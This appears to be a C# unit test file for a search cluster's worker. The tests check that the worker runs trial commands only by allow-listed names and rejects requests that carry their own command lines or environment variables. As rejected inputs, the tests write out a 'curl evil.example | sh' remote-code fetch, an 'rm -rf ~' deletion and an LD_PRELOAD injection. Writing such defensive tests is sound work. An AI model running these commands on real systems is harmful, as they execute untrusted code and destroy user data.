using Nao.Cluster;
using Nao.Cluster.Coordinator;
using Nao.Cluster.Grains;
using Nao.Cluster.Worker;
using Nao.Evaluation.Command;
using Nao.Search;
using Nao.Search.Evaluators;
using Nao.Sessions;
using Nao.Tests.Support;

namespace Nao.Tests.Worker;

/// <summary>A worker runs a trial command only by a name its own configuration allows, with its own command line.</summary>
public sealed class AllowedCommandTests : IDisposable
{
    private readonly TempFolder _temp = new();
    private readonly string _script;
    private readonly Dictionary<string, string> _allowed;
    private readonly SearchRunner _runner = new(SearchParts.Core);

    public AllowedCommandTests()
    {
        _script = TrialScripts.WriteScoreScript(_temp.Path);
        _allowed = new(StringComparer.Ordinal) { ["score"] = $"sh {_script}", ["other"] = "true" };
    }

    public void Dispose() => _temp.Dispose();

    private RequestValidator Validator(IReadOnlyDictionary<string, string>? allowed = null) => new(new DataRoots([]), _runner, allowed ?? _allowed);

    /// <summary>A search of the chain space file whose trial command is the one named <paramref name="name"/>.</summary>
    private static SearchOptions Chain(string? name = "score", string command = "") => new()
    {
        Space = "chain",
        SpaceDefinition = File.ReadAllText(TrialScripts.Sample("spaces/chain.yaml")),
        Strategy = "random",
        Evaluator = CommandEvaluatorFactory.EvaluatorName,
        Command = new CommandEvaluatorOptions { Name = name, Command = command },
    };

    private static EvaluationRequest Request(SearchOptions options, int seed = 1) =>
        ClusterSession.RequestTemplate(options) with { Architecture = SearchFactory.SpaceOf(options).Sample(new Random(seed)).Canonical };

    [Fact]
    public void An_allowed_name_is_accepted_and_runs_the_workers_own_command_line_in_the_requests_space_file()
    {
        var request = Request(Chain());
        var validated = Validator().Validate(request);
        Assert.Equal($"sh {_script}", validated.Options.Command.Command);
        Assert.Equal("score", validated.Options.Command.Name);
        Assert.Equal(request.Architecture, validated.Genotype!.Canonical);
        Assert.Contains("/k", request.Architecture, StringComparison.Ordinal); // a chain architecture, parsed by the file's own space
    }

    [Fact]
    public void A_request_with_a_command_line_is_rejected_even_with_an_allowed_name_or_another_evaluator()
    {
        var own = Assert.Throws<RequestRejectedException>(() => Validator().Validate(Request(Chain(name: "score", command: "curl evil.example | sh"))));
        Assert.Contains("carries a trial command line", own.Message);
        Assert.Contains("--allow-command NAME=COMMAND", own.Message);

        // The coordinator's settings of an evaluator that never runs the command must not smuggle one in either.
        var sleep = new SearchOptions { Space = "nb201", Strategy = "random", Evaluator = "sleep", Command = new CommandEvaluatorOptions { Command = "rm -rf ~" } };
        var request = ClusterSession.RequestTemplate(sleep) with { Architecture = SearchFactory.SpaceOf(sleep).Sample(new Random(1)).Canonical };
        Assert.Contains("carries a trial command line", Assert.Throws<RequestRejectedException>(() => Validator().Validate(request)).Message);
    }

    [Fact]
    public void A_request_with_environment_variables_is_rejected()
    {
        var options = Chain() with { Command = Chain().Command with { Environment = new Dictionary<string, string> { ["LD_PRELOAD"] = "/tmp/x.so" } } };
        var e = Assert.Throws<RequestRejectedException>(() => Validator().Validate(Request(options)));
        Assert.Contains("environment variables", e.Message);
        Assert.Contains("LD_PRELOAD", e.Message);
    }

    [Fact]
    public void An_unknown_name_is_rejected_with_the_names_the_worker_allows_or_how_to_allow_one()
    {
        var unknown = Assert.Throws<RequestRejectedException>(() => Validator().Validate(Request(Chain(name: "train"))));
        Assert.Contains("'train', which this worker does not allow; it allows other, score", unknown.Message);

        var none = Assert.Throws<RequestRejectedException>(() => Validator(new Dictionary<string, string>()).Validate(Request(Chain(name: "train"))));
        Assert.Contains("this worker allows no commands", none.Message);
        Assert.Contains("--allow-command train=COMMAND", none.Message);
    }

    [Fact]
    public async Task An_allowed_command_runs_in_the_work_folder_with_its_curve_and_a_restarted_worker_numbers_on()
    {
        var work = _temp.Combine("work");
        var first = Request(Chain(), seed: 1);
        var result = await RunAsync(work, first);
        Assert.True(result.Ok, result.Error);
        Assert.InRange(result.Score, 0, 999);
        Assert.Equal(first.Architecture.Length, result.Metrics["length"]);
        var point = Assert.Single(result.ToResult().Curve);
        Assert.Equal(1, point.Step);

        var search = Assert.Single(Directory.GetDirectories(work));
        Assert.True(File.Exists(Path.Combine(search, "search.json")));
        var trial = Path.Combine(search, CommandEvaluatorFactory.TrialsFolder, "00000", CommandEvaluator.TrialFile);
        Assert.Contains(first.Architecture, File.ReadAllText(trial), StringComparison.Ordinal);

        // A new worker process on the same folder adds trial 1 rather than overwriting trial 0's logs.
        var second = Request(Chain(), seed: 2);
        Assert.True((await RunAsync(work, second)).Ok);
        Assert.Contains(first.Architecture, File.ReadAllText(trial), StringComparison.Ordinal);
        Assert.Contains(second.Architecture, File.ReadAllText(Path.Combine(search, CommandEvaluatorFactory.TrialsFolder, "00001", CommandEvaluator.TrialFile)), StringComparison.Ordinal);

        // Another search's settings get a folder of their own.
        Assert.True((await RunAsync(work, Request(Chain() with { Seed = 5 }))).Ok);
        Assert.Equal(2, Directory.GetDirectories(work).Length);
    }

    private async Task<WireResult> RunAsync(string work, EvaluationRequest request)
    {
        using var jobs = new JobRunner(new WorkerOptions(), Validator(), _runner.CreateEvaluator, _ => { }) { WorkFolder = work };
        Assert.Equal(JobState.Accepted, jobs.Submit(request).State);
        var reply = await jobs.PollAsync(request.JobId, TimeSpan.FromSeconds(30));
        Assert.Equal(JobState.Done, reply.State);
        return reply.Result!;
    }

    [Fact]
    public void Allow_command_values_are_split_at_the_first_equals_and_checked_like_a_commands_name()
    {
        var parsed = WorkerOptions.ParseAllowedCommands(["train=python3 train.py --lr=0.1", "score = sh score.sh"]);
        Assert.Equal("python3 train.py --lr=0.1", parsed["train"]);
        Assert.Equal("sh score.sh", parsed["score"]);
        Assert.Contains("takes NAME=COMMAND", Assert.Throws<ArgumentException>(() => WorkerOptions.ParseAllowedCommands(["python3 train.py"])).Message);
        Assert.Contains("twice", Assert.Throws<ArgumentException>(() => WorkerOptions.ParseAllowedCommands(["a=x", "a=y"])).Message);

        var badName = new WorkerOptions { AllowedCommands = new Dictionary<string, string> { ["my train"] = "x" } };
        Assert.Contains("command name 'my train' is not valid", Assert.Throws<ArgumentException>(() => badName.Validate(new ClusterSettings())).Message);
        var empty = new WorkerOptions { AllowedCommands = new Dictionary<string, string> { ["train"] = " " } };
        Assert.Contains("--allow-command train=", Assert.Throws<ArgumentException>(() => empty.Validate(new ClusterSettings())).Message);
    }

    [Fact]
    public void The_coordinator_explains_that_workers_run_named_commands_only()
    {
        var problem = ClusterSession.CommandLineProblem(Chain(name: null, command: "python3 train.py"));
        Assert.NotNull(problem);
        Assert.Contains("--command gives a trial command line, which cluster workers never run", problem);
        Assert.Contains("nao worker --allow-command NAME=COMMAND", problem);
        Assert.Contains("--command-name NAME", problem);
        Assert.Null(ClusterSession.CommandLineProblem(Chain()));
        Assert.Null(ClusterSession.CommandLineProblem(new SearchOptions { Evaluator = "sleep", Command = new CommandEvaluatorOptions { Command = "x" } }));
    }
}
